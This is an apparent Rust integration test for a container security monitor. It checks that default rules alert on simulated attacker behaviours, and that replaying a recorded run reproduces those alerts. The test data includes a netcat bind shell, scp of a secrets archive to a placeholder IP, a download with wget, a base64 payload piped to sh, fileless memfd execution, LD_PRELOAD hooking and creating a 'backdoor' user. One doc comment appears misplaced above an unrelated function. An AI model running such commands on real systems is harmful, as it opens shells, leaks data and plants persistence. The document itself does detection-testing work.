//! The default process rules, end to end: the real `tasksentry run` (alerts mode, embedded
//! default rules) as the sidecar of an emulated Fargate task, real behaviours played in an app
//! container, and the alerts it prints. Also: `rules test` replaying the run's recording
//! (`--record`) reproduces exactly the alerts of the live run.

use std::collections::BTreeSet;
use std::time::Duration;

use serde_json::Value;
use support::{Container, ContainerSpec, EmulatedTask, Monitor};

const TIMEOUT: Duration = Duration::from_secs(10);

/// Installs an executable shell script `name` in the container's `/usr/local/bin` that lives
/// about a second: the kernel names the process after the script, like the real tool.
fn alert_for<'a>(alerts: &'a [Value], rule: &str) -> Option<&'a Value> {
    alerts.iter().find(|a| a["rule"] == rule)
}

fn wait_for_rule(mon: &Monitor, rule: &str, app: &Container) -> Value {
    mon.wait_for(
        |a| a["rule"] == rule && a["output_fields"]["container.id"] == app.id(),
        TIMEOUT,
    )
    .unwrap_or_else(|error| {
        panic!(
            "no alert of rule {rule:?} for container {}: {error}",
            app.id()
        )
    })
}

#[test]
fn default_process_rules_fire_on_their_behaviours_and_replay_reproduces_them() {
    let task = EmulatedTask::new().expect("task");
    let app = task
        .add_container_with(
            "app",
            ContainerSpec::default()
                .with_host_python()
                .expect("python3 on the host"),
        )
        .expect("container");
    let quiet = task.add_container("quiet").expect("second container");
    for tool in ["apt-get", "xmrig", "nmap", "scp", "wget", "useradd"] {
        app.install_script(tool, "sleep 1.5").expect("a fake tool");
    }
    // The monitor is ready once it has read the task: wait for the recording to show the
    // quiet container's first process.
    let (mon, recording) = task
        .start_monitor_recording(
            &["run", "--rule-matching", "all", "--hostname", "test-host"],
            &quiet,
            TIMEOUT,
        )
        .expect("starting tasksentry run");

    // Each behaviour, and the rule that must report it.
    let mut running = Vec::new();
    let behaviours: Vec<(&str, Vec<&str>)> = vec![
        (
            "Shell spawned by a non-shell program",
            vec!["python3", "-c", "import os; os.system('sleep 1.5; true')"],
        ),
        (
            "Package manager launched at runtime",
            vec!["apt-get", "install", "-y", "ncat"],
        ),
        (
            "Crypto miner launched",
            vec!["xmrig", "-o", "pool.example:3333"],
        ),
        (
            "Network scanner launched",
            vec!["nmap", "-sS", "198.51.100.0/24"],
        ),
        (
            "Remote file copy tool launched",
            vec!["scp", "secrets.tar", "x@198.51.100.1:"],
        ),
        (
            "File downloaded with a command-line tool",
            vec!["wget", "http://198.51.100.1/x"],
        ),
        (
            "User management binary launched",
            vec!["useradd", "backdoor"],
        ),
        (
            "Execution from a temporary directory",
            vec![
                "sh",
                "-c",
                "cp /bin/busybox /tmp/sleep && exec /tmp/sleep 1.5",
            ],
        ),
        (
            "Dynamic linker hijacking variable set",
            vec!["env", "LD_PRELOAD=/tmp/hook.so", "sleep", "1.5"],
        ),
        (
            "Privilege escalation through GLIBC_TUNABLES",
            vec![
                "env",
                "GLIBC_TUNABLES=glibc.malloc.mxfast=1",
                "sleep",
                "1.5",
            ],
        ),
        (
            "Netcat or socat executing a program",
            vec!["nc", "-l", "-p", "5555", "-e", "/bin/sh"],
        ),
        (
            "Decoded payload piped to a shell",
            vec!["sh", "-c", "echo c2xlZXAgMS41Cg== | base64 -d | sh"],
        ),
        (
            "Fileless execution",
            vec![
                "python3",
                "-c",
                "import os; fd = os.memfd_create('payload'); os.write(fd, open('/bin/busybox', 'rb').read()); os.execv(f'/proc/self/fd/{fd}', ['sleep', '1.5'])",
            ],
        ),
    ];
    for (_, command) in &behaviours {
        running.push(app.spawn(command).expect("spawning a behaviour"));
    }
    for (rule, command) in &behaviours {
        let alert = wait_for_rule(&mon, rule, &app);
        assert_eq!(alert["hostname"], "test-host");
        assert_eq!(alert["source"], "syscall");
        assert!(
            alert["tags"].as_array().is_some_and(|tags| tags
                .iter()
                .any(|t| t.as_str().is_some_and(|t| t.starts_with('T')))),
            "{rule}: every default rule carries a MITRE technique tag: {alert}"
        );
        assert_eq!(
            alert["tasksentry"]["event_type"], "execve",
            "{rule} ({command:?}) fires on the new program"
        );
        let output = alert["output"].as_str().unwrap_or("");
        assert!(
            output.contains(app.id()),
            "{rule}: the output names the container: {output}"
        );
    }
    for mut process in running {
        let _ = process.kill();
    }

    // Benign activity in the quiet container raises nothing.
    quiet
        .run_ok(&[
            "sh",
            "-c",
            "ls / >/dev/null; cat /etc/passwd >/dev/null; sleep 0.3",
        ])
        .expect("benign commands");
    std::thread::sleep(Duration::from_millis(800));
    mon.terminate().expect("SIGTERM");
    let mut mon = mon;
    let status = mon.wait_exit(TIMEOUT).expect("the monitor exits");
    assert!(
        status.success(),
        "SIGTERM is a clean stop: {status:?}\n{}",
        mon.stderr_so_far()
    );

    let live: Vec<String> = mon.lines_so_far();
    let live_alerts: Vec<Value> = live
        .iter()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let noisy: Vec<&Value> = live_alerts
        .iter()
        .filter(|a| a["output_fields"]["container.id"] == quiet.id())
        .collect();
    assert!(
        noisy.is_empty(),
        "benign commands raised alerts: {noisy:#?}"
    );
    for (rule, _) in &behaviours {
        assert!(alert_for(&live_alerts, rule).is_some());
    }

    // Replaying the recording through the same rules gives exactly the live alerts.
    let replay = std::process::Command::new(env!("CARGO_BIN_EXE_tasksentry"))
        .args([
            "rules",
            "test",
            "--rule-matching",
            "all",
            "--hostname",
            "test-host",
            "--events",
        ])
        .arg(&recording)
        .output()
        .expect("running rules test");
    assert!(
        replay.status.success(),
        "{}",
        String::from_utf8_lossy(&replay.stderr)
    );
    let replayed: Vec<String> = String::from_utf8_lossy(&replay.stdout)
        .lines()
        .map(str::to_owned)
        .collect();
    let live_set: BTreeSet<&String> = live.iter().collect();
    let replay_set: BTreeSet<&String> = replayed.iter().collect();
    assert_eq!(
        live.len(),
        replayed.len(),
        "as many alerts replayed as raised live"
    );
    assert_eq!(
        live_set, replay_set,
        "the replayed alerts are the live ones, byte for byte"
    );
}
